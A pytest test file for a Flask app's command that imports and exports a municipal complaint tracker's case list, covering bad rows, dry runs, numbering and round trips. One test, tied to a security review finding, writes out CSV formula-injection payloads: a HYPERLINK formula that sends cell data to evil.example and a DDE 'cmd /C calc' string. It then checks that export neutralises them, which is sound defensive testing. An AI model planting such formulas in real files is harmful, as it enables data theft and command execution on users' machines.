"""``flask --app umic cases import|export``: the existing tracker's list, on a real database.

The seed's seven rows (tests/data/tracker_seed.tsv) name three towns and three technicians;
each test creates them first, as the service's database would already have them.
"""

from __future__ import annotations

import csv
from datetime import UTC
from datetime import date
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func
from sqlalchemy import select

from support.factories import make_staff
from support.factories import make_town
from support.queries import counted_selects
from umic.casefiles import tracker
from umic.casefiles import tracker_db
from umic.casefiles.service import create_case
from umic.extensions import db
from umic.models import CaseCounter
from umic.models import CaseEvent
from umic.models import CaseFile
from umic.models import Channel
from umic.models import Municipality
from umic.models import StaffUser

DATA = Path(__file__).resolve().parent / "data"
SEED = DATA / "tracker_seed.tsv"
MADRID = ZoneInfo("Europe/Madrid")
STAFF = ("OPSSVEGAVN", "OPSSAPRESGA", "OPSSPASCUETCA")


@pytest.fixture
def towns(app) -> dict[str, Municipality]:
    """The seed's towns and technicians (and one town that is not in it)."""
    made = {
        "Gelida": make_town("Gelida", "08091"),
        "Santa Maria de Palautordera": make_town("Santa Maria de Palautordera", "08259"),
        "Torrelles de Llobregat": make_town("Torrelles de Llobregat", "08289"),
        "El Bruc": make_town("El Bruc", "08025"),
    }
    for code in STAFF:
        make_staff(code)
    return made


def import_file(runner, path: Path, *extra: str):
    result = runner.invoke(args=["cases", "import", str(path), *extra])
    db.session.expire_all()  # see what the command committed
    return result


def cases() -> dict[str, CaseFile]:
    return {case.number: case for case in db.session.scalars(select(CaseFile))}


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


def counter(year: int) -> int | None:
    return db.session.scalar(select(CaseCounter.last_number).where(CaseCounter.year == year))


def user_id(username: str) -> int:
    return db.session.scalar(select(StaffUser.id).where(StaffUser.username == username))


def seed_with(tmp_path: Path, number: str, **changes: str) -> Path:
    """The seed file with some cells of one row (by Expedient) changed, by column name."""
    lines = SEED.read_text(encoding="utf-8").splitlines()
    for index, line in enumerate(lines):
        cells = line.split("\t")
        if cells[3] == number:
            for name, value in changes.items():
                cells[tracker.HEADER.index(name)] = value
            lines[index] = "\t".join(cells)
    path = tmp_path / "changed.tsv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def history(case: CaseFile) -> list[tuple[str, str, str, str, str]]:
    events = db.session.scalars(
        select(CaseEvent).where(CaseEvent.case_id == case.id).order_by(CaseEvent.id)
    )
    return [(e.kind, e.field, e.old_value, e.new_value, e.note) for e in events]


# --- importing the seed ------------------------------------------------------------------------


def test_the_seed_file_imports_its_seven_cases(runner, towns):
    result = import_file(runner, SEED)

    assert result.exit_code == 0, result.output
    assert "tracker_seed.tsv: 7 rows (UTF-8, tab-separated): created 7, updated 0" in result.output
    assert "skipped 0, warnings 0" in result.output
    imported = cases()
    assert sorted(imported) == [
        "2025/0027982",
        "2025/0028144",
        "2025/0028662",
        "2025/0028804",
        "2025/0028805",
        "2025/0028936",
        "2025/0029005",
    ]
    saray = imported["2025/0027982"]
    assert (saray.year, saray.sequence) == (2025, 27982)
    assert saray.case_type == "reclamacio"
    assert saray.procedure_name == "Reclamacions"
    assert saray.channel == Channel.TELEMATICA
    assert saray.municipality_id == towns["Gelida"].id
    assert saray.requested_at == datetime(2025, 5, 9, 7, 31, 42, tzinfo=UTC)
    assert saray.updated_at.astimezone(MADRID).date() == date(2025, 5, 14)
    assert saray.status == "documentacio_requerida"
    assert saray.status_detail == "Documentació requereida"
    assert saray.internal_status == "Documentació requereida"
    assert saray.internal_detail == (
        "ENOTUM fins 28/05. Cobrament impots indeguts, empresa Moneyman"
    )
    assert saray.deadline == date(2025, 5, 28)
    assert saray.assigned_to_id == user_id("OPSSPASCUETCA")
    assert saray.organic == "E02020000 - Ser. Suport Polítiques de Consum"
    assert saray.interested_name == "SARAY"
    assert saray.created_by_id is None
    assert saray.resolved_at is None
    assert "saray" in saray.search_text and "gelida" in saray.search_text
    assert "moneyman" in saray.search_text
    assert saray.tracker_id == "456941"
    # The history says where it came from, with the tracker's own dates (machine-readable).
    assert history(saray) == [
        ("imported", "", "2025-05-09T07:31:42+00:00", "2025-05-14", "importat")
    ]
    assert imported["2025/0028805"].municipality_id == towns["Torrelles de Llobregat"].id
    assert imported["2025/0028662"].deadline == date(2025, 6, 2)
    assert imported["2025/0029005"].deadline is None


def test_reimporting_the_same_file_changes_nothing(runner, towns):
    import_file(runner, SEED)
    before = {n: (c.version, c.updated_at) for n, c in cases().items()}
    events = count(CaseEvent)

    again = import_file(runner, SEED)

    assert again.exit_code == 0, again.output
    assert "created 0, updated 0, unchanged 7, skipped 0" in again.output
    assert {n: (c.version, c.updated_at) for n, c in cases().items()} == before
    assert count(CaseEvent) == events


def test_the_windows_1252_semicolon_export_is_the_same_data(runner, towns):
    import_file(runner, SEED)

    result = import_file(runner, DATA / "tracker_seed_windows.csv")

    assert result.exit_code == 0, result.output
    assert "(Windows-1252, semicolon-separated)" in result.output
    assert "created 0, updated 0, unchanged 7" in result.output


@pytest.fixture
def changed_seed(tmp_path):
    def _changed(number: str, **changes: str) -> Path:
        return seed_with(tmp_path, number, **changes)

    return _changed


def test_a_changed_row_updates_only_its_case_recording_every_change(runner, towns, changed_seed):
    import_file(runner, SEED)
    before = cases()
    version, others = (
        before["2025/0029005"].version,
        {n: c.version for n, c in before.items() if n != "2025/0029005"},
    )
    path = changed_seed(
        "2025/0029005",
        **{
            "Estat Petició": "Resolt",
            "Detall estat": "Resolt a favor",
            "Usuari assignat": "OPSSAPRESGA",
            "Classificació": "Ajuntament del Bruc",
            "Data actualització": "20/05/2025 12:00:00",
        },
    )

    result = import_file(runner, path)

    assert result.exit_code == 0, result.output
    assert "created 0, updated 1, unchanged 6" in result.output
    case = cases()["2025/0029005"]
    assert case.version == version + 1
    assert {n: c.version for n, c in cases().items() if n != "2025/0029005"} == others
    assert case.status == "resolt"
    assert case.status_detail == "Resolt a favor"
    assert case.assigned_to_id == user_id("OPSSAPRESGA")
    assert case.municipality_id == towns["El Bruc"].id
    assert case.updated_at == datetime(2025, 5, 20, 10, 0, tzinfo=UTC)
    assert case.resolved_at == datetime(2025, 5, 20, 10, 0, tzinfo=UTC)
    assert "el bruc" in case.search_text and "gelida" not in case.search_text
    assert history(case)[1:] == [
        ("change", "municipality_id", "Gelida", "El Bruc", "importat"),
        ("change", "status", "pendent", "resolt", "importat"),
        ("change", "status_detail", "", "Resolt a favor", "importat"),
        ("change", "assigned_to_id", "OPSSVEGAVN", "OPSSAPRESGA", "importat"),
    ]


def test_an_imported_number_made_by_the_app_updates_that_case(runner, towns, changed_seed, app):
    made = create_case(
        {"interested_name": "TRINIDAD", "municipality_id": towns["Gelida"].id},
        actor=None,
        now=datetime(2025, 5, 15, 14, 48, 6, tzinfo=UTC),
    )
    db.session.commit()
    path = changed_seed("2025/0029005", Expedient=made.number)

    result = import_file(runner, path)

    assert result.exit_code == 0, result.output
    assert "created 6, updated 1" in result.output
    assert count(CaseFile) == 7
    case = db.session.get(CaseFile, made.id)
    assert case.internal_detail == "Manca d'enviament de factura d'aigua"
    assert case.assigned_to_id == user_id("OPSSVEGAVN")


# --- bad rows and bad files ------------------------------------------------------------------


def test_bad_rows_are_reported_one_by_one_and_the_others_imported(runner, towns):
    result = import_file(runner, DATA / "tracker_bad_rows.tsv")

    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[:-1] == [
        "line 3, 2025/28936: skipped: bad Expedient '2025/28936' (expected YYYY/NNNNNNN)",
        "line 4, 2025/0028144: skipped: bad Data petició: '31/02/2025 10:00:00' is not a real date",
        "line 5, 2025/0027982: skipped: unknown town 'Ajuntament de Narnia'",
        "line 6, 2025/0028805: skipped: unknown status 'Perdut'",
        "line 7, 2025/0028804: warning: unknown user 'OPSSNOEXISTEIX': imported unassigned",
        "line 8, 2025/0029005: skipped: repeats the Expedient of line 2",
        "line 10, 2025/0030001: warning: the ENOTUM deadline 'ENOTUM fins 31/02' is not a real "
        "date: no deadline",
        "line 11, 2025/0030002: skipped: has 16 columns, the header has 15 (a separator inside "
        "a value must be quoted)",
        "line 12, 2025/0030003: skipped: unknown status 'Perdut'; bad Data actualització: "
        "'2025-05-16' is not a date dd/mm/yyyy HH:MM:SS",
    ]
    assert "11 rows" in lines[-1]
    assert "created 4, updated 0, unchanged 0, skipped 7, warnings 2." in lines[-1]
    imported = cases()
    assert sorted(imported) == ["2025/0028662", "2025/0028804", "2025/0029005", "2025/0030001"]
    assert imported["2025/0029005"].interested_name == "TRINIDAD"  # the first of the two
    assert imported["2025/0028804"].assigned_to_id is None
    lenient = imported["2025/0028662"]
    assert (lenient.status, lenient.case_type, lenient.procedure_name) == (
        "tancat",
        "queixa",
        "Queixes",
    )
    assert lenient.municipality_id == towns["Gelida"].id
    assert lenient.resolved_at == datetime(2025, 5, 19, 8, 0, tzinfo=UTC)
    assert imported["2025/0030001"].deadline is None


def test_an_unknown_user_leaves_a_known_cases_assignment_as_it_was(runner, towns, changed_seed):
    import_file(runner, SEED)

    result = import_file(runner, changed_seed("2025/0029005", **{"Usuari assignat": "NINGU"}))

    assert "line 2, 2025/0029005: warning: unknown user 'NINGU': assignment left as it was" in (
        result.output
    )
    assert "updated 0, unchanged 7" in result.output
    assert cases()["2025/0029005"].assigned_to_id == user_id("OPSSVEGAVN")


def test_a_skipped_row_reports_why_it_was_skipped_not_its_warnings(runner, towns, changed_seed):
    path = changed_seed(
        "2025/0027982",
        **{"Classificació": "Narnia", "Detall estat intern": "ENOTUM fins 31/02"},
    )

    result = import_file(runner, path)

    assert [line for line in result.output.splitlines() if line.startswith("line ")] == [
        "line 5, 2025/0027982: skipped: unknown town 'Narnia'"
    ]


def test_a_value_longer_than_its_column_skips_the_row(runner, towns, changed_seed):
    path = changed_seed("2025/0029005", **{"Nom interessat": "N" * 121})

    result = import_file(runner, path)

    assert "line 2, 2025/0029005: skipped: Nom interessat is longer than 120 characters" in (
        result.output
    )
    assert "created 6" in result.output
    assert "2025/0029005" not in cases()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ((DATA / "tracker_bad_header.tsv").read_bytes(), "missing columns: Expedient"),
        (b"", "the file is empty"),
        (SEED.read_bytes() + b"\x81\x8d\x8f", "neither UTF-8 nor Windows-1252"),
        (SEED.read_bytes().replace(b"\t", b","), "not separated by tabs or semicolons"),
    ],
)
def test_a_bad_file_changes_nothing_and_fails(runner, towns, tmp_path, content, message):
    path = tmp_path / "export.tsv"
    path.write_bytes(content)

    result = import_file(runner, path)

    assert result.exit_code != 0
    assert message in result.output
    assert "Nothing was imported." in result.output
    assert count(CaseFile) == 0
    assert count(CaseCounter) == 0


def test_a_crash_half_way_changes_nothing(runner, towns, monkeypatch):
    calls = []
    real = tracker_db.search_text

    def failing(case):
        calls.append(case.number)
        if len(calls) == 4:
            raise RuntimeError("disk full")
        return real(case)

    monkeypatch.setattr(tracker_db, "search_text", failing)

    result = import_file(runner, SEED)

    assert isinstance(result.exception, RuntimeError)
    assert result.exit_code != 0
    assert len(calls) == 4
    assert count(CaseFile) == 0
    assert count(CaseEvent) == 0
    assert count(CaseCounter) == 0


def test_dry_run_reports_the_same_and_writes_nothing(runner, towns):
    real = runner.invoke(args=["cases", "import", str(DATA / "tracker_bad_rows.tsv")])
    db.session.expire_all()
    for model in (CaseEvent, CaseFile, CaseCounter):
        db.session.execute(model.__table__.delete())
    db.session.commit()

    dry = import_file(runner, DATA / "tracker_bad_rows.tsv", "--dry-run")

    assert dry.exit_code == 0, dry.output
    assert dry.output.splitlines()[:-2] == real.output.splitlines()[:-1]
    assert "would create 4, would update 0, unchanged 0, skipped 7" in dry.output
    assert dry.output.splitlines()[-1] == "Dry run: nothing was written."
    assert count(CaseFile) == 0
    assert count(CaseCounter) == 0


def test_dry_run_counts_the_updates_it_would_make(runner, towns, changed_seed):
    import_file(runner, SEED)
    path = changed_seed("2025/0028144", **{"Estat Petició": "Tancat"})

    dry = import_file(runner, path, "--dry-run")

    assert "would create 0, would update 1, unchanged 6" in dry.output
    assert cases()["2025/0028144"].status == "en_tramit"


# --- numbering ---------------------------------------------------------------------------------


def test_the_counter_is_raised_so_new_cases_never_collide(runner, towns):
    import_file(runner, SEED)

    assert counter(2025) == 29005
    made = create_case({}, actor=None, now=datetime(2025, 6, 1, 10, 0, tzinfo=UTC))
    db.session.commit()
    assert made.number == "2025/0029006"


def test_a_counter_already_higher_is_not_lowered(runner, towns):
    db.session.add(CaseCounter(year=2025, last_number=40000))
    db.session.commit()

    import_file(runner, SEED)

    assert counter(2025) == 40000
    assert create_case({}, actor=None, now=datetime(2025, 6, 1, tzinfo=UTC)).number == (
        "2025/0040001"
    )


# --- export --------------------------------------------------------------------------------------


def test_export_writes_the_seed_back_in_the_trackers_format(runner, towns):
    import_file(runner, SEED)
    ids = {case.number: case.id for case in cases().values()}

    result = runner.invoke(args=["cases", "export"])

    assert result.exit_code == 0, result.output
    seed_lines = SEED.read_text(encoding="utf-8").splitlines()
    exported = result.stdout_bytes.decode("utf-8").split("\n")
    assert exported[0] == seed_lines[0]
    assert exported[-1] == ""
    assert len(exported) == 9
    for written, original in zip(exported[1:8], seed_lines[1:], strict=True):
        cells, expected = written.split("\t"), original.split("\t")
        # The old tracker's ID is kept and written back (L6); ours for the app's own cases.
        assert cells[0] == expected[0] != str(ids[expected[3]])
        # Estat Petició in the tracker's words, correctly spelt; the free-text columns verbatim.
        status = tracker.HEADER.index("Estat Petició")
        expected[status] = expected[status].replace("requereida", "requerida")
        assert cells[1:] == expected[1:]


def test_export_to_a_file_is_utf8_and_the_same_as_standard_output(runner, towns, tmp_path):
    import_file(runner, SEED)
    target = tmp_path / "export.tsv"

    to_file = runner.invoke(args=["cases", "export", "--output", str(target)])
    to_stdout = runner.invoke(args=["cases", "export"])

    assert to_file.exit_code == 0, to_file.output
    assert "7 cases written" in to_file.output
    assert target.read_bytes() == to_stdout.stdout_bytes
    assert "Palautordera\t" in target.read_text(encoding="utf-8")
    assert "Polítiques".encode() in target.read_bytes()
    assert not list(tmp_path.glob("*.part"))


def test_export_never_hands_a_spreadsheet_a_formula_and_reads_its_own_file_back(
    runner, towns, tmp_path
):
    """Security review finding 10: names typed by citizens went out as formulas."""
    import_file(runner, SEED)
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    case = next(iter(cases().values()))
    case.interested_name, case.status_detail = attack, "-2+3+cmd|' /C calc'!A0"
    db.session.commit()
    target = tmp_path / "export.tsv"
    assert runner.invoke(args=["cases", "export", "--output", str(target)]).exit_code == 0
    line = next(line for line in target.read_text(encoding="utf-8").split("\n") if "evil" in line)
    cells = next(csv.reader([line], delimiter="\t"))
    assert cells[tracker.HEADER.index("Nom interessat")] == "'" + attack
    assert cells[tracker.HEADER.index("Detall estat")] == "'-2+3+cmd|' /C calc'!A0"
    # Imported again, the apostrophes go: the case is as it was.
    number = case.number
    assert import_file(runner, target).exit_code == 0
    again = cases()[number]
    assert (again.interested_name, again.status_detail) == (attack, "-2+3+cmd|' /C calc'!A0")


def test_an_empty_database_exports_the_header_only(runner, app):
    result = runner.invoke(args=["cases", "export"])

    assert result.stdout_bytes.decode("utf-8") == "\t".join(tracker.HEADER) + "\n"


def make_app_cases(towns) -> list[CaseFile]:
    """Cases as the app makes them: microseconds, no town, several lines, a deadline."""
    made = [
        create_case(
            {
                "municipality_id": towns["Gelida"].id,
                "interested_name": "Raúl Sánchez",
                "assigned_to_id": user_id("OPSSVEGAVN"),
                "status": "en_tramit",
                "internal_detail": 'Línia 1; diu "prou"\nLínia 2\tamb tabulador',
                "registry_entry": "E/000123/2025",
                "requested_at": datetime(2025, 3, 30, 0, 59, 59, 123456, tzinfo=UTC),
            },
            actor=None,
            now=datetime(2025, 4, 2, 21, 59, 0, 654321, tzinfo=UTC),  # 23:59 in Madrid
        ),
        create_case(
            {"case_type": "consulta", "status": "resolt", "status_detail": "Informada"},
            actor=None,
            now=datetime(2025, 12, 31, 23, 30, tzinfo=UTC),  # 2026 in Madrid
        ),
        create_case(
            {
                "municipality_id": towns["El Bruc"].id,
                "case_type": "mediacio",
                "status": "documentacio_requerida",
                "internal_detail": "ENOTUM fins 28/05",
                "deadline": date(2025, 5, 28),
                "assigned_to_id": user_id("OPSSPASCUETCA"),
                "interested_name": "SARAY",
                "call": "Convocatòria 2025",
            },
            actor=None,
            now=datetime(2025, 5, 14, 8, 0, tzinfo=UTC),
        ),
    ]
    db.session.commit()
    return made


def tracker_view(case: CaseFile) -> tuple:
    """What the tracker's columns say about a case (and the deadline ENOTUM gives)."""
    return (
        case.number,
        case.year,
        case.sequence,
        case.case_type,
        case.procedure_name,
        case.registry_entry,
        case.call,
        case.municipality_id,
        case.requested_at.replace(microsecond=0),
        case.updated_at.astimezone(MADRID).date(),
        case.status,
        case.status_detail,
        case.internal_status,
        case.internal_detail,
        case.assigned_to_id,
        case.organic,
        case.interested_name,
        case.deadline,
    )


def test_round_trip_into_an_empty_database_gives_the_same_cases(runner, towns, tmp_path):
    make_app_cases(towns)
    before = sorted(tracker_view(case) for case in cases().values())
    target = tmp_path / "export.tsv"
    assert runner.invoke(args=["cases", "export", "-o", str(target)]).exit_code == 0
    first_export = target.read_text(encoding="utf-8")
    for model in (CaseEvent, CaseFile, CaseCounter):
        db.session.execute(model.__table__.delete())
    db.session.commit()

    result = import_file(runner, target)

    assert result.exit_code == 0, result.output
    assert "created 3, updated 0, unchanged 0, skipped 0, warnings 0" in result.output
    assert sorted(tracker_view(case) for case in cases().values()) == before
    again = runner.invoke(args=["cases", "export"]).stdout_bytes.decode("utf-8")

    def without_ids(text: str) -> list[list[str]]:
        return [line.split("\t")[1:] for line in text.split("\n")]

    assert without_ids(again) == without_ids(first_export)


def test_round_trip_into_the_same_database_changes_nothing(runner, towns, tmp_path):
    make_app_cases(towns)
    before = {n: (c.version, c.updated_at, c.deadline) for n, c in cases().items()}
    events = count(CaseEvent)
    target = tmp_path / "export.tsv"
    runner.invoke(args=["cases", "export", "--output", str(target)])

    result = import_file(runner, target)

    assert result.exit_code == 0, result.output
    assert "created 0, updated 0, unchanged 3, skipped 0, warnings 0" in result.output
    assert {n: (c.version, c.updated_at, c.deadline) for n, c in cases().items()} == before
    assert count(CaseEvent) == events


def test_a_deadline_set_by_hand_survives_a_reimport_of_the_same_detail(runner, towns, tmp_path):
    import_file(runner, SEED)
    case = cases()["2025/0027982"]
    case.deadline = date(2025, 6, 15)  # staff gave more time; the detail still says 28/05
    db.session.commit()
    target = tmp_path / "export.tsv"
    runner.invoke(args=["cases", "export", "--output", str(target)])

    result = import_file(runner, target)

    assert "updated 0, unchanged 7" in result.output
    assert cases()["2025/0027982"].deadline == date(2025, 6, 15)


# --- cost ---------------------------------------------------------------------------------------


def numbered_file(tmp_path: Path, first: int, rows: int, status: str = "Pendent") -> Path:
    base = SEED.read_text(encoding="utf-8").splitlines()
    lines = [base[0]]
    for index in range(rows):
        cells = base[1 + index % 7].split("\t")
        cells[3] = f"2024/{first + index:07d}"
        cells[8] = status
        lines.append("\t".join(cells))
    path = tmp_path / f"rows_{first}_{rows}_{status}.tsv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_import_queries_do_not_grow_with_the_number_of_rows(runner, towns, tmp_path):
    measured = []
    for first, rows in ((1, 5), (100, 60)):
        with counted_selects() as created:
            assert import_file(runner, numbered_file(tmp_path, first, rows)).exit_code == 0
        with counted_selects() as updated:
            path = numbered_file(tmp_path, first, rows, status="Tancat")
            result = import_file(runner, path)
            assert f"updated {rows}" in result.output
        measured.append((len(created), len(updated)))

    assert measured[0] == measured[1], measured
